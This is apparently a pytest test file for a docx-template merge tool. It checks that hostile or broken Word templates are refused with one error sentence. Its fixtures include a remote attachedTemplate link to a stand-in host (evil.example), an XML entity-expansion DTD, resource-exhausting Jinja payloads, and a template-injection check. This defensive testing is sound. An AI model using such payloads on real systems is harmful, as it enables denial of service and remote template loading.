"""Own templates (-t): unsafe or broken ones are refused with one sentence, and rendering is bounded."""

from __future__ import annotations

import re
import shutil
import zipfile
from pathlib import Path

import pytest
from conftest import SHEETS
from process import MEMORY_LIMIT, run_gwmerge

from gwmerge import api

pytestmark = pytest.mark.timeout(120)

LOOP = ("{%p for p in paragraphs %}", "{{r p.rich }}", "{%p endfor %}")


def _template(path: Path, *lines: str) -> Path:
    from docx import Document

    doc = Document()
    for line in lines:
        doc.add_paragraph(line)
    doc.save(path)
    return path


def _patch(path: Path, part: str, change) -> Path:
    tmp = path.with_suffix(".tmp")
    with zipfile.ZipFile(path) as src, zipfile.ZipFile(tmp, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            data = src.read(item)
            dst.writestr(item, change(data) if item.filename == part else data)
    shutil.move(tmp, path)
    return path


def _merge_error(tmp_path: Path, template: Path) -> str:
    book = shutil.copy(SHEETS / "示例-党员.xlsx", tmp_path / "示例-党员.xlsx")
    [outcome] = api.merge([Path(book)], tmp_path / "out", template=template)
    assert outcome.error is not None and outcome.crash is None, (outcome.crash, outcome.output)
    assert not (tmp_path / "out" / "示例-党员.docx").exists()
    message = str(outcome.error)
    assert message.startswith(f"{template.name}："), message
    return message


@pytest.mark.parametrize("tag", ["{% include 'x.docx' %}", "{% extends 'base' %}", "{% import 'm' as m %}",
                                 "{% from 'm' import x %}"])
def test_include_extends_import_are_refused(tmp_path: Path, tag: str) -> None:
    tpl = _template(tmp_path / "引用.docx", tag, *LOOP)
    assert "不能引用其他模板" in _merge_error(tmp_path, tpl)


def test_unknown_variable_is_named(tmp_path: Path) -> None:
    tpl = _template(tmp_path / "拼错.docx", "{{ titel }}", *LOOP)
    message = _merge_error(tmp_path, tpl)
    assert "模板中的变量 {{ titel }} 不存在" in message and "title_text" in message


def test_unknown_attribute_is_refused_not_blank(tmp_path: Path) -> None:
    tpl = _template(tmp_path / "属性.docx", "{%p for p in paragraphs %}", "{{ p.titel }}", "{%p endfor %}")
    assert "不存在的变量或属性" in _merge_error(tmp_path, tpl)


def test_template_without_the_paragraph_loop(tmp_path: Path) -> None:
    tpl = _template(tmp_path / "无正文.docx", "{{ title_text }}", "{{ name }}")
    assert "没有正文段落的循环" in _merge_error(tmp_path, tpl)


def test_external_relationship_is_refused(tmp_path: Path) -> None:
    tpl = _template(tmp_path / "外链.docx", "{{ title_text }}", *LOOP)
    rel = (b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
           b'attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>')
    _patch(tpl, "word/_rels/document.xml.rels", lambda d: d.replace(b"</Relationships>", rel))
    message = _merge_error(tmp_path, tpl)
    assert "外部地址" in message and "http://evil.example/t.dotm" in message


def test_external_hyperlink_is_fine(tmp_path: Path) -> None:
    tpl = _template(tmp_path / "超链接.docx", "{{ title_text }}", *LOOP)
    rel = (b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
           b'hyperlink" Target="https://www.gov.cn/" TargetMode="External"/></Relationships>')
    _patch(tpl, "word/_rels/document.xml.rels", lambda d: d.replace(b"</Relationships>", rel))
    book = shutil.copy(SHEETS / "示例-党员.xlsx", tmp_path / "示例-党员.xlsx")
    [outcome] = api.merge([Path(book)], tmp_path / "out", template=tpl)
    assert outcome.ok, outcome.error


def test_bad_xml_in_the_template(tmp_path: Path) -> None:
    tpl = _template(tmp_path / "坏XML.docx", "{{ title_text }}", *LOOP)
    _patch(tpl, "word/document.xml", lambda d: d.replace(b"</w:body>", b"<w:p></w:body>"))
    assert "XML 格式有误（word/document.xml）" in _merge_error(tmp_path, tpl)


def test_entity_expansion_in_the_template(tmp_path: Path) -> None:
    tpl = _template(tmp_path / "实体.docx", "{{ title_text }}", *LOOP)
    doctype = (b'<!DOCTYPE w:document [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
               b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>')
    _patch(tpl, "word/document.xml", lambda d: d.replace(b"?>", b"?>" + doctype, 1))
    assert "DTD/实体声明" in _merge_error(tmp_path, tpl)


@pytest.mark.parametrize(
    ("name", "body", "words"),
    [
        ("无尽循环", "{% for a in range(100000) %}{% for b in range(100000) %}{% endfor %}{% endfor %}",
         "运算次数过多"),
        ("字符串倍增", '{% set ns = namespace(x="ab") %}{% for i in range(64) %}{% set ns.x = ns.x ~ ns.x %}'
                       "{% endfor %}{{ ns.x }}", "内容过大"),
        ("乘法", '{{ "x" * 1000000000 }}', "内容过大"),
        ("列表乘法", "{{ [1] * 1000000000 }}", "内容过大"),
        ("乘方", "{{ 9 ** 999999 }}", "乘方过大"),
        ("格式方法", '{{ "{:>999999999}".format(1) }}', "格式宽度"),
        ("居中", '{{ "x"|center(1000000000) }}', "数值参数"),
        ("宽度", '{{ "%0999999999d"|format(1) }}', "格式宽度"),
        ("大范围", "{% for i in range(1000000000) %}{% endfor %}", "数值参数"),
        ("替换", '{% set ns = namespace(x="a") %}{% for i in range(40) %}{% set ns.x = ns.x.replace("a", "aa") %}'
                 "{% endfor %}", "内容过大"),
        ("递归宏", "{% macro m(n) %}{{ m(n) }}{% endmacro %}{{ m(1) }}", "超出限制"),
    ],
)
def test_runaway_templates_are_stopped(tmp_path: Path, name: str, body: str, words: str) -> None:
    tpl = _template(tmp_path / f"{name}.docx", body, *LOOP)
    message = _merge_error(tmp_path, tpl)
    assert "模板运行超出限制" in message and words in message, message


def test_runaway_template_under_a_memory_limit(tmp_path: Path) -> None:
    """Through the command, in a child process capped at 500 MB: one sentence, no MemoryError."""
    tpl = _template(tmp_path / "吃内存.docx", '{% set ns = namespace(x="ab") %}{% for i in range(64) %}'
                    "{% set ns.x = ns.x ~ ns.x %}{% endfor %}", *LOOP)
    book = shutil.copy(SHEETS / "示例-党员.xlsx", tmp_path / "示例-党员.xlsx")
    result = run_gwmerge("merge", book, "-o", tmp_path / "out", "-t", tpl, memory=MEMORY_LIMIT)
    assert result.code == 1 and "Traceback" not in result.output and "内部错误" not in result.output
    assert "吃内存.docx：模板运行超出限制（产生的内容过大）" in result.stdout


def test_user_text_is_not_jinja(tmp_path: Path) -> None:
    """Jinja syntax typed into a cell comes out literally, through a user's template as well."""
    import openpyxl

    from gwmerge.docx.effective import EffectiveDoc

    book = Path(shutil.copy(SHEETS / "示例-党员.xlsx", tmp_path / "示例-党员.xlsx"))
    wb = openpyxl.load_workbook(book)
    # {_{ is docxtpl's way for a template to say a literal {{; in a cell it is just text.
    typed = "{{ 7*7 }}{% for x in range(9) %}x{% endfor %}</w:t>&amp;{_{ }_}{_% %_}"
    wb["存在的问题"]["C5"] = typed
    wb.save(book)
    tpl = _template(tmp_path / "我的.docx", "{{ title_text }}", "模板原文：{_{ 不是标记 }_}", *LOOP)
    for template in (tpl, None):
        [outcome] = api.merge([book], tmp_path / "out", template=template, force=True)
        assert outcome.ok, outcome.error
        texts = [p.text for p in EffectiveDoc(outcome.output).paragraphs()]
        assert any(typed in t for t in texts), texts
        # The template's own {_{ }_} still print as {{ }}, as docxtpl documents them.
        assert ("模板原文：{{ 不是标记 }}" in texts) is (template is not None)


def test_tags_that_unbalance_the_document_are_an_error_not_a_broken_file(tmp_path: Path) -> None:
    # {% if %} in one paragraph and {% endif %} inside a link two paragraphs on: when the
    # condition is false the paragraph structure between them is cut unevenly.
    tpl = _template(tmp_path / "跨段.docx", "甲{% if false %}乙", "丙", "丁{% endif %}戊", *LOOP)
    run = b"<w:r><w:t>\xe4\xb8\x81{% endif %}\xe6\x88\x8a</w:t></w:r>"
    _patch(tpl, "word/document.xml",
           lambda d: d.replace(run, b'<w:hyperlink w:anchor="x">' + run + b"</w:hyperlink>"))
    message = _merge_error(tmp_path, tpl)
    assert "模板生成的文档结构有误" in message and "{% %} 标记是否成对" in message


def _drop(path: Path, part: str) -> Path:
    tmp = path.with_suffix(".tmp")
    with zipfile.ZipFile(path) as src, zipfile.ZipFile(tmp, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            if item.filename != part:
                dst.writestr(item, src.read(item))
    shutil.move(tmp, path)
    return path


def _strict(path: Path) -> Path:
    """Word's "Strict Open XML Document" (另存为 › Strict Open XML 文档): other namespaces."""
    tmp = path.with_suffix(".tmp")
    with zipfile.ZipFile(path) as src, zipfile.ZipFile(tmp, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            dst.writestr(item, src.read(item).replace(b"http://schemas.openxmlformats.org/wordprocessingml/2006/main",
                                                      b"http://purl.oclc.org/ooxml/wordprocessingml/main"))
    shutil.move(tmp, path)
    return path


def _with_damaged_picture(path: Path) -> Path:
    import os

    from hostile import damaged

    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as z:
        z.writestr("word/media/image1.png", os.urandom(256) * 64)
    return damaged(path, "word/media/image1.png")


@pytest.mark.parametrize(("breakage", "words"), [
    (lambda p: _drop(p, "word/styles.xml"),
     "模板引用的部件 word/styles.xml 在文件中缺失（文件已损坏），请用 Word 打开后另存为 .docx。"),
    (lambda p: _drop(p, "word/document.xml"), "模板缺少正文部分（word/document.xml），文件已损坏"),
    (lambda p: _drop(p, "[Content_Types].xml"), "模板不是有效的 .docx 文件，请用 Word 打开后另存为 .docx。"),
    (lambda p: _drop(p, "_rels/.rels"), "模板不是有效的 .docx 文件"),
    (_strict, "模板是“Strict Open XML 文档”格式，请在 Word 中另存为“Word 文档（*.docx）”后再用。"),
    (lambda p: shutil.copy(SHEETS / "示例-党员.xlsx", p), "这是 Excel 工作簿，不是 Word 模板"),
    (_with_damaged_picture, "模板不是有效的 .docx 文件"),
    (lambda p: _patch(p, "word/document.xml", lambda d: re.sub(rb"<w:body>.*</w:body>", b"", d, flags=re.S)),
     "模板的正文部分（word/document.xml）不是 Word 文档的正文"),
], ids=["no-styles", "no-document", "no-content-types", "no-rels", "strict", "xlsx", "damaged-picture", "no-body"])
def test_broken_template_package_is_one_sentence(tmp_path: Path, breakage, words: str) -> None:
    """Each of these was 内部错误 from python-docx (KeyError, ValueError, AttributeError, zlib.error),
    printed once for the whole run; now one sentence on each workbook's line."""
    tpl = _template(tmp_path / "坏模板.docx", "{{ title_text }}", *LOOP)
    breakage(tpl)
    book = shutil.copy(SHEETS / "示例-党员.xlsx", tmp_path / "示例-党员.xlsx")
    result = run_gwmerge("merge", book, "-o", tmp_path / "out", "-t", tpl)
    assert result.code == 1, result.output
    assert "内部错误" not in result.output and "Traceback" not in result.output, result.output
    assert f"✗ 示例-党员.xlsx：坏模板.docx：{words}" in result.stdout, result.output
    assert not (tmp_path / "out" / "示例-党员.docx").exists()
